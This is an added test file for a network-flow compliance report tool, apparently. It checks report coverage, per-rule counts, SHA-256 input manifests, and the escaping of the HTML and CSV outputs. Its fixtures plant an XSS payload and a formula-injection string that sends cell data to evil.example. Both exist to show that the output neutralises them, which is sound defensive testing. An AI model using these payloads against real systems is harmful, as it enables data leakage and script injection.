@@ -1,0 +1,193 @@
+import { createHash } from 'node:crypto';
+import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { runHourlyAnalytics } from '../../jobs/hourly-analytics.ts';
+import { deliverSamples } from '../../lib/cli/commands/demo-command.ts';
+import { main } from '../../lib/cli/main.ts';
+import type { ComplianceReport } from '../../lib/reports/compliance-report.ts';
+import { createLakeFixture, REPO_ROOT, SAMPLE_REFERENCE, type LakeFixture } from '../support/lake-fixture.ts';
+import { hasChromium, inkStats, renderInChromium, visibleText } from './support/chromium.ts';
+
+/**
+ * The compliance audit of 2024-05-01T12..16 over the sample lake, made with `netflow report`:
+ * 13 and 14 published (late: the samples were published long after their hours), 15 failed (a
+ * broken model), 12 and 16 missing. Two VM names are hostile: one is HTML, one a spreadsheet formula.
+ */
+const HOSTILE_HTML = `<script>document.title='pwned'</script><img src=x onerror="document.title='pwned'">app-2`;
+const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"batch-1")';
+
+let lake: LakeFixture;
+let outDir: string;
+let report: ComplianceReport;
+let stdout = '';
+let exitCode: number;
+
+beforeAll(async () => {
+  lake = await createLakeFixture();
+  const inventory = path.join(lake.dir, 'inventory.yaml');
+  const original = await readFile(path.join(SAMPLE_REFERENCE, 'inventory.yaml'), 'utf8');
+  await writeFile(inventory, original.replace('vm_name: app-2', `vm_name: ${JSON.stringify(HOSTILE_HTML)}`).replace('vm_name: batch-1', `vm_name: ${JSON.stringify(HOSTILE_FORMULA)}`));
+  await deliverSamples({ store: lake.store });
+  const configFile = path.join(lake.dir, 'netflow.config.yaml');
+  await writeFile(
+    configFile,
+    [
+      `store: { type: local, path: ${JSON.stringify(path.join(lake.dir, 'lake'))} }`,
+      `ledger: { path: ${JSON.stringify(lake.config.ledger.path)} }`,
+      `work_dir: ${JSON.stringify(lake.config.work_dir)}`,
+      `duckdb: { memory_limit: 1GB, max_temp_directory_size: 2GB, threads: 2 }`,
+      `reference: { inventory: ${JSON.stringify(inventory)}, ip_ranges: ${JSON.stringify(path.join(SAMPLE_REFERENCE, 'ip-ranges.yaml'))} }`,
+      `rules: ${JSON.stringify(path.join(SAMPLE_REFERENCE, 'rules.yaml'))}`,
+      '',
+    ].join('\n'),
+  );
+  lake.config.reference.inventory = inventory;
+  for (const hour of ['2024-05-01T13', '2024-05-01T14']) expect((await lake.runHour(hour)).status).toBe('published');
+  const broken = path.join(lake.dir, 'sql');
+  await cp(path.join(REPO_ROOT, 'sql'), broken, { recursive: true });
+  const alerts = path.join(broken, 'marts', 'alerts.sql');
+  await writeFile(alerts, (await readFile(alerts, 'utf8')).replace('count(*) as flow_count', 'count(no_such_column) as flow_count'));
+  expect((await lake.runHour('2024-05-01T15', { sqlDir: broken })).status).toBe('failed');
+  await runHourlyAnalytics({ config: lake.config, baseDir: lake.dir, store: lake.store, logger: lake.logger, from: new Date('2024-05-01T13:00:00Z'), to: new Date('2024-05-01T15:00:00Z') });
+
+  outDir = path.join(lake.dir, 'out');
+  await mkdir(outDir);
+  const io = { stdout: (text: string) => void (stdout += text), stderr: () => {}, cwd: lake.dir, env: {} };
+  exitCode = await main(['report', 'compliance', '--from', '2024-05-01T12', '--to', '2024-05-01T16', '--out', outDir, '--config', configFile], io);
+  report = JSON.parse(await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.json'), 'utf8')) as ComplianceReport;
+}, 180_000);
+
+afterAll(async () => {
+  await lake?.cleanup();
+});
+
+describe('compliance audit report', () => {
+  test('netflow report writes every format to reports/compliance/<date>/ and prints the keys with their SHA-256', async () => {
+    expect(exitCode).toBe(0);
+    const keys = stdout.trim().split('\n').map((line) => line.split('  ')[0]);
+    expect(keys).toEqual(expect.arrayContaining([
+      'reports/compliance/2024-05-01/compliance-2024-05-01T12_2024-05-01T16.html',
+      'reports/compliance/2024-05-01/compliance-2024-05-01T12_2024-05-01T16.json',
+      'reports/compliance/2024-05-01/compliance-2024-05-01T12_2024-05-01T16-offenders.csv',
+      'reports/compliance/2024-05-01/compliance-2024-05-01T12_2024-05-01T16-inputs.csv',
+    ]));
+    for (const line of stdout.trim().split('\n')) {
+      const [key, sha] = line.split('  ');
+      const body = (await lake.store.getBytes(key!))!;
+      expect(`sha256:${createHash('sha256').update(body).digest('hex')}`).toBe(sha);
+    }
+    expect(await lake.store.getBytes('reports/compliance/2024-05-01/compliance-2024-05-01T12_2024-05-01T16.manifest.json')).toBeTruthy();
+  });
+
+  test('coverage shows the gaps: late, failed and missing hours, from the ledger and the manifests', () => {
+    expect(report.summary).toMatchObject({ hours_expected: 5, hours_published: 2, hours_late: 2, hours_failed: 1, hours_missing: 2, hours_pending: 0 });
+    expect(report.coverage.map((hour) => [hour.hour, hour.status, hour.attempts])).toEqual([
+      ['2024-05-01T12', 'missing', 0],
+      ['2024-05-01T13', 'late', 1],
+      ['2024-05-01T14', 'late', 1],
+      ['2024-05-01T15', 'failed', 1],
+      ['2024-05-01T16', 'missing', 0],
+    ]);
+    expect(report.coverage[3]!.last_error).toMatch(/model alerts .* failed/);
+    expect(report.coverage[1]).toMatchObject({ in_ledger: true, flows: 436 });
+  });
+
+  test('per rule: evaluated, conformant and violating counts; totals; trend per hour', () => {
+    const rules = Object.fromEntries(report.rules.map((rule) => [rule.rule_id, [rule.violating, rule.alerts]]));
+    expect(rules).toEqual({ 'no-admin-ports-from-internet': [2, 2], 'sql-only-from-app-1': [10, 1], 'datastore-only-from-vms': [3, 1], 'known-endpoints-only': [1, 1] });
+    for (const rule of report.rules) expect(rule.conformant + rule.violating).toBe(rule.evaluated);
+    expect(report.summary).toMatchObject({ flows: 857, violations: 16, alerts: 5 });
+    const sqlTrend = report.trend.filter((t) => t.rule_id === 'sql-only-from-app-1').map((t) => [t.bucket, t.violating]);
+    expect(sqlTrend).toEqual([['2024-05-01T13', 10], ['2024-05-01T14', 0]]);
+  });
+
+  test('top offenders and evidence samples lead back to the raw records', () => {
+    expect(report.top_offenders[0]).toMatchObject({ src_ip: '10.0.2.11', vm_name: HOSTILE_HTML, violations: 10, rules: ['sql-only-from-app-1'] });
+    expect(report.top_offenders[1]).toMatchObject({ src_ip: '10.0.5.20', vm_name: HOSTILE_FORMULA, violations: 3 });
+    const sql = report.evidence.filter((e) => e.rule_id === 'sql-only-from-app-1');
+    expect(sql).toHaveLength(5);
+    for (const e of report.evidence) expect(e.raw_object_key).toMatch(/^raw\//);
+  });
+
+  test('rules and reference versions in force, and an input manifest anyone can verify against the lake', async () => {
+    const rulesBytes = await readFile(path.join(SAMPLE_REFERENCE, 'rules.yaml'));
+    const rulesSha = createHash('sha256').update(rulesBytes).digest('hex');
+    expect(report.rules_in_force.current).toMatchObject({ sha256: rulesSha, version: '2024-05-01', rules: 4 });
+    expect(report.rules_in_force.observed).toEqual([expect.objectContaining({ rules_hash: rulesSha, hours: 2, first_hour: '2024-05-01T13', last_hour: '2024-05-01T14' })]);
+    const tables = new Set(report.inputs.map((input) => input.table));
+    expect([...tables].sort()).toEqual(['alerts', 'anomalies', 'capacity_hourly', 'flows', 'quarantine', 'traffic_matrix', 'violations']);
+    expect(report.inputs.filter((input) => input.table === 'flows').map((input) => `${input.dt}T${input.hour}`)).toEqual(['2024-05-01T13', '2024-05-01T14']);
+    for (const input of report.inputs) {
+      const body = await lake.store.getBytes(input.key);
+      expect(createHash('sha256').update(body!).digest('hex')).toBe(input.sha256);
+    }
+  });
+
+  test('CSV: a cell that would start a formula is escaped', async () => {
+    const csv = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16-offenders.csv'), 'utf8');
+    const cells = parseCsv(csv).flat();
+    expect(cells).toContain(`'${HOSTILE_FORMULA}`);
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    for (const name of ['coverage', 'rules', 'evidence', 'inputs', 'summary', 'trend']) {
+      const all = parseCsv(await readFile(path.join(outDir, `compliance-2024-05-01T12_2024-05-01T16-${name}.csv`), 'utf8')).flat();
+      expect(all.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    }
+  });
+
+  test('HTML: self-contained, escaped, prints', async () => {
+    const html = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'), 'utf8');
+    expect(html).not.toContain('<script');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;');
+    expect(html).toContain("Content-Security-Policy\" content=\"default-src 'none'");
+    expect(html).toMatch(/@media print/);
+    expect(html).not.toMatch(/(src|href)\s*=\s*["']?(https?:)?\/\//i);
+    expect(html).toMatch(/<svg[^>]*aria-label="Hours of the period by publication status"/);
+  });
+
+  test.skipIf(!hasChromium)('rendered in headless Chromium: not blank, the key numbers on the page, nothing injected', async () => {
+    const { dom, png } = await renderInChromium(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'));
+    expect(dom).not.toMatch(/<script|<img/);
+    expect(dom).toMatch(/<title>Compliance audit 2024-05-01T12/);
+    const stat = (id: string) => new RegExp(`id="${id}"><div class="value">([^<]*)</div>`).exec(dom)?.[1];
+    expect([stat('hours-expected'), stat('hours-published'), stat('hours-late'), stat('hours-failed'), stat('hours-missing'), stat('flows'), stat('violations'), stat('alerts')]).toEqual(['5', '2', '2', '1', '2', '857', '16', '5']);
+    const text = visibleText(dom);
+    for (const needle of ['sql-only-from-app-1', '10.0.2.11', HOSTILE_HTML, HOSTILE_FORMULA, 'failed', 'missing', report.rules_in_force.current.sha256, report.inputs[0]!.sha256]) expect(text).toContain(needle);
+    const ink = inkStats(png);
+    expect(ink.width).toBe(1280);
+    expect(ink.inked).toBeGreaterThan(0.03);
+    expect(ink.colors).toBeGreaterThan(20);
+    expect(ink.variance).toBeGreaterThan(100);
+  });
+});
+
+/** RFC 4180 with quotes; enough for our own output. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\n' || ch === '\r') {
+      if (ch === '\r' && text[i + 1] === '\n') i++;
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += ch;
+  }
+  if (cell || row.length) rows.push([...row, cell]);
+  return rows;
+}
